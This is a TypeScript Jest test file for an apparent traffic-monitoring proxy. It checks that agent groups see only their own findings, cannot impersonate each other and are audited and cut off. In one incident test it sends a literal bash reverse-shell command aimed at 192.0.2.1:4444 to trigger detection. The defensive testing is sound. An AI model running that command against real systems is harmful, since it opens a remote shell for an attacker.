import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { join } from 'node:path';
import { answerAgent } from '../../src/host/agent-action.js';
import { startEchoServer, type EchoServer } from '../../src/cli/demo/echo-server.js';
import { sendThrough } from '../../src/cli/demo/send-through.js';
import type { Finding } from '../../src/findings/finding.js';
import { readAudit } from '../../src/audit/read.js';
import type { AuditEvent, AuditKind } from '../../src/audit/events.js';
import { callControl } from '../../src/sidecar/control/client.js';
import type { Status } from '../../src/sidecar/status.generated.js';
import { freshKey } from '../cli/support/traffic.js';
import { startGuardian, until, type Guardian } from '../support/guardian.js';

let server: EchoServer;
let guardian: Guardian;
const urls: Record<string, string> = {};

beforeAll(async () => {
  const echo = await startEchoServer([0]);
  if (echo === undefined) throw new Error('no port');
  server = echo;
  guardian = await startGuardian({ config: { allowHostServices: [server.address], adminGroups: ['ops'] } });
  for (const agent of ['red', 'blue', 'ops']) urls[agent] = await guardian.proxyUrl(agent);
  await send(urls['red'] ?? '', freshKey());
  await send(urls['blue'] ?? '', freshKey());
  await send(urls['blue'] ?? '', freshKey());
  const found = await guardian.findingsWhen((findings) => findings.length >= 3);
  expect(found).toHaveLength(3);
}, 120_000);
afterAll(async () => {
  await guardian.remove();
  await server.close();
});

/** Sends a text through a proxy URL; returns the status. */
async function send(proxyUrl: string, text: string): Promise<number> {
  return (await sendThrough(proxyUrl, `http://${server.address}/`, text)).status;
}

async function findingsFor(agent: string, query: object = {}): Promise<Finding[]> {
  return (
    (await answerAgent(join(guardian.home, 'control.sock'), agent, 'traffic-findings', query)) as {
      findings: Finding[];
    }
  ).findings;
}

/** Recorded events of a kind, once there is one. */
async function recorded(kind: AuditKind, agent?: string): Promise<AuditEvent[]> {
  const folder = join(guardian.logDir, 'audit');
  const filter = { kinds: [kind], limit: 100, ...(agent === undefined ? {} : { agent }) };
  const { entries } = await until(
    () => readAudit(folder, filter),
    ({ entries }) => entries.length > 0,
  );
  return entries.map(({ event }) => event);
}

describe('two agent groups', () => {
  test('each see only their own findings', async () => {
    expect((await findingsFor('red')).map(({ agent }) => agent)).toEqual(['red']);
    expect((await findingsFor('blue')).map(({ agent }) => agent)).toEqual(['blue', 'blue']);
    expect(await findingsFor('nobody')).toEqual([]);
  });

  test('cannot ask for those of the other', async () => {
    await expect(findingsFor('red', { agent: 'blue' })).rejects.toMatchObject({ code: 'agent.not_yours' });
    expect(await recorded('agent_request_refused', 'red')).toEqual([
      { kind: 'agent_request_refused', agent: 'red', code: 'agent.not_yours' },
    ]);
  });

  test('cannot go on where a page of the other ended', async () => {
    const page = (await answerAgent(join(guardian.home, 'control.sock'), 'blue', 'traffic-findings', { limit: 1 })) as {
      nextCursor: string;
    };
    const asking = findingsFor('red', { limit: 10, cursor: page.nextCursor }).catch(() => []);
    expect((await asking).filter(({ agent }) => agent !== 'red')).toEqual([]);
  });

  test('see totals in the status, their own findings, and no hosts or places of this machine', async () => {
    const status = (await answerAgent(join(guardian.home, 'control.sock'), 'red', 'traffic-status', {})) as Status;
    expect(status).toMatchObject({ home: '', pid: 0, pinned: [], findings_24h: { total: 1 } });
    expect(status.coverage).toMatchObject({ worst_hosts: [] });
    expect(status.coverage.connections).toBeGreaterThanOrEqual(3);
    expect(JSON.stringify(status)).not.toContain(guardian.home);
    expect(JSON.stringify(status)).not.toContain('blue');
  });

  test('a group that the operator lists sees everything', async () => {
    expect(await findingsFor('ops')).toHaveLength(3);
    expect(await findingsFor('ops', { agent: 'blue' })).toHaveLength(2);
    expect(await answerAgent(join(guardian.home, 'control.sock'), 'ops', 'traffic-status', {})).toMatchObject({
      home: guardian.home,
      findings_24h: { total: 3 },
    });
  });

  test('what they ask is recorded with their names', async () => {
    await answerAgent(join(guardian.home, 'control.sock'), 'blue', 'traffic-check-config', { config: {} });
    const calls = await until(
      () => recorded('tool_called', 'blue'),
      (events) => events.some((event) => 'tool' in event && event.tool === 'traffic-check-config'),
    );
    expect(calls).toContainEqual({
      kind: 'tool_called',
      caller: 'agent',
      agent: 'blue',
      tool: 'traffic-check-config',
    });
  });

  test('each are told only their own incidents', async () => {
    const socket = join(guardian.home, 'control.sock');
    const url = await guardian.proxyUrl('green');
    await send(url, 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n');
    await guardian.findingsWhen((all) =>
      all.some(({ agent, direction }) => agent === 'green' && direction === 'inbound'),
    );
    await send(url, freshKey());
    await guardian.findingsWhen((all) =>
      all.some(({ agent, pattern }) => agent === 'green' && pattern === 'ai_api_key'),
    );
    const told = async (agent: string): Promise<unknown> =>
      ((await answerAgent(socket, agent, 'traffic-findings', { incidents: true })) as { incidents: unknown }).incidents;
    expect(await told('green')).toMatchObject([{ agent: 'green' }]);
    expect(await told('ops')).toMatchObject([{ agent: 'green' }]);
    expect(await told('red')).toEqual([]);
  });
});

describe('a group cannot pass for another', () => {
  test('by headers that name one', async () => {
    const { hostname, port, username, password } = new URL(urls['red'] ?? '');
    const { request } = await import('node:http');
    const key = freshKey();
    await new Promise<void>((resolve, reject) => {
      const sent = request({
        host: hostname,
        port,
        method: 'POST',
        path: `http://${server.address}/`,
        agent: false,
        headers: {
          host: server.address,
          'proxy-authorization': `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`,
          'x-agent': 'blue',
          'x-agent-group': 'blue',
          agent: 'blue',
          forwarded: 'for=blue',
          'content-type': 'text/plain',
        },
      });
      sent.once('error', reject);
      sent.once('response', (response) => response.resume().once('end', () => resolve()));
      sent.end(key);
    });
    await until(
      () => findingsFor('red'),
      (findings) => findings.length === 2,
    );
    expect((await findingsFor('red')).length).toBe(2);
    expect(await findingsFor('blue')).toHaveLength(2);
  });

  test('by the name of another with its own token', async () => {
    const mixed = new URL(urls['red'] ?? '');
    mixed.username = 'blue';
    expect(await send(mixed.href.replace(/\/$/, ''), freshKey())).toBe(407);
    expect(await recorded('authentication_failed')).toContainEqual({
      kind: 'authentication_failed',
      source: '127.0.0.1',
    });
  });

  test('by a token that was revoked', async () => {
    const before = urls['blue'] ?? '';
    expect(await send(before, 'nothing')).toBe(200);
    await callControl(join(guardian.home, 'control.sock'), 'revoke-agent', { agent: 'blue' });
    expect(await send(before, freshKey())).toBe(407);
    expect(await send(before, freshKey())).toBe(407);
    expect(await findingsFor('blue')).toHaveLength(2);
    expect(await recorded('credential_revoked', 'blue')).toMatchObject([{ agent: 'blue', generation: 1 }]);
  });
});

test('a group that is cut off stays cut off until its time is over, and the audit log says so', async () => {
  for (let n = 0; n < 40; n++)
    await answerAgent(join(guardian.home, 'control.sock'), 'rude', 'stop', {}).catch(() => undefined);
  await expect(answerAgent(join(guardian.home, 'control.sock'), 'rude', 'traffic-status', {})).rejects.toMatchObject({
    code: 'agent.cut_off',
  });
  expect(await recorded('agent_cut_off')).toMatchObject([{ agent: 'rude' }]);
});
